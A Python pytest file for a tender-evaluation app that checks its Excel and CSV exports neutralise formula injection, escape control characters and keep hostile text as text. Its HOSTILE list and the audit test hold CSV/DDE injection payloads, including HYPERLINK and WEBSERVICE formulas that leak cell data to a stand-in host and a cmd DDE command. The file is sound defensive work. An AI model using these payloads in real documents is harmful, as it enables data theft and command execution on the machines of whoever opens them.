"""Every workbook the app writes, from a tender full of hostile names: no cell is a formula
(formula injection, DDE), every workbook opens, and the hostile text is kept as text."""

from __future__ import annotations

import csv
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from workbench.audit_trail import entries, export_csv, export_xlsx
from workbench.domain import TenderData
from workbench.exchange.results_xlsx import write_results_xlsx
from workbench.model.model_xlsx import export_model
from workbench.panel.packs import PackContent, PackIdentity, pack_data, pack_items
from workbench.panel.workbook import write_workbook
from workbench.reports.facts import from_data
from workbench.safe_xlsx import CELL_LIMIT, put_text
from workbench.storage import TenderFile

#: Text a spreadsheet would run, and text no workbook can hold as it is.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=WEBSERVICE("http://evil.example/"&A2)',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "NUL\x00 ESC\x1b[31m FF\x0c VT\x0b BEL\x07",
    "W" * 1500,
]
SURROGATE = "lone \ud800 surrogate"


def hostile(data: TenderData, *, surrogates: bool) -> TenderData:
    """`data` with every name, title and text an attacker could choose replaced."""
    names = [*HOSTILE, SURROGATE] if surrogates else HOSTILE

    def pick(i: int) -> str:
        return names[i % len(names)]

    n = iter(range(10_000))
    data.tender.title = pick(next(n))
    data.tender.authority = pick(next(n))
    for s in data.scales:
        s.name = pick(next(n))
        for level in s.levels:
            level.label, level.descriptor = pick(next(n)), pick(next(n))
    for e in data.evaluators:
        e.name, e.role = pick(next(n)), pick(next(n))
    for lot in data.lots:
        lot.title = pick(next(n))
        for c in lot.all_criteria():
            c.title, c.question, c.guidance = pick(next(n)), pick(next(n)), pick(next(n))
            c.good_answer, c.unit = pick(next(n)), pick(next(n))
        for b in lot.bidders:
            b.name = f"{pick(next(n))} {b.id}"  # names stay distinct
        lot.scores = [replace(s, rationale=pick(next(n))) for s in lot.scores]
        lot.moderated = [replace(m, rationale=pick(next(n))) for m in lot.moderated]
    return data


def formula_cells(path: Path) -> list[str]:
    """Every cell of the workbook stored as a formula (read from the XML itself)."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += [f"{name}: {m[:80]}" for m in re.findall(r"<f[ >].*?</f>", xml)]
    return found


def texts(path: Path) -> set[str]:
    """Every text value of the workbook, opened as a spreadsheet program would."""
    book = load_workbook(path)
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


#: The model workbook's own formulas (effective weight, points): cell references and
#: arithmetic only, never a function a hostile text could call.
OURS = re.compile(r"<f>[A-Z$0-9*/+\-(), .]*</f>$")


def check(path: Path, whole: bool = True, own_formulas: bool = False) -> None:
    """No formula but our own; the hostile text is there as text (a whole cell, or within
    one)."""
    assert [f for f in formula_cells(path) if not (own_formulas and OURS.search(f))] == []
    shown = texts(path)
    if whole:
        assert any(t.startswith('=HYPERLINK("http://evil.example') for t in shown)
    else:
        assert any('=HYPERLINK("http://evil.example' in t for t in shown)
    assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in shown)


def pack_content(data: TenderData) -> PackContent:
    evaluator = data.evaluators[0].id
    view = pack_data(data, evaluator, blind=False)
    return PackContent(PackIdentity("uid", "pack", evaluator, False), view,
                       pack_items(view, evaluator), 10, "2026-11-20T10:00:00+00:00")


@pytest.mark.parametrize("surrogates", [False, True])
def test_model_workbook_writes_no_formula(demo_data: TenderData, tmp_path: Path,
                                          surrogates: bool) -> None:
    out = tmp_path / "model.xlsx"
    export_model(hostile(demo_data, surrogates=surrogates), out)
    check(out, own_formulas=True)


@pytest.mark.parametrize("surrogates", [False, True])
def test_results_workbook_writes_no_formula(demo_data: TenderData, tmp_path: Path,
                                            surrogates: bool) -> None:
    out = tmp_path / "results.xlsx"
    write_results_xlsx(from_data(hostile(demo_data, surrogates=surrogates)), out)
    check(out)


@pytest.mark.parametrize("surrogates", [False, True])
def test_scoring_pack_workbook_writes_no_formula(demo_data: TenderData, tmp_path: Path,
                                                 surrogates: bool) -> None:
    out = tmp_path / "pack.xlsx"
    write_workbook(out, pack_content(hostile(demo_data, surrogates=surrogates)))
    check(out)


def test_audit_exports_write_no_formula(demo_data: TenderData, tmp_path: Path) -> None:
    path = tmp_path / "hostile.tender"
    TenderFile.create(path, hostile(demo_data, surrogates=False),
                      user="=cmd|' /C calc'!A0").close()
    with TenderFile.open(path, read_only=True) as tf:
        found = entries(tf)
    export_xlsx(found, tmp_path / "audit.xlsx", "=HYPERLINK(\"x\")\x00")
    check(tmp_path / "audit.xlsx", whole=False)
    export_csv(found, tmp_path / "audit.csv")
    with open(tmp_path / "audit.csv", encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not [f for f in fields if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", f)]


def test_a_cell_keeps_text_text_and_shows_control_characters(tmp_path: Path) -> None:
    from openpyxl import Workbook
    book = Workbook()
    ws = book.active
    assert ws is not None
    put_text(ws["A1"], "=1+1\x00\x1b")
    put_text(ws["A2"], "x" * (CELL_LIMIT + 10))
    book.save(tmp_path / "one.xlsx")
    cell = load_workbook(tmp_path / "one.xlsx").active["A1"]
    assert (cell.value, cell.data_type) == ("=1+1␀␛", "s")
    assert len(load_workbook(tmp_path / "one.xlsx").active["A2"].value) == CELL_LIMIT
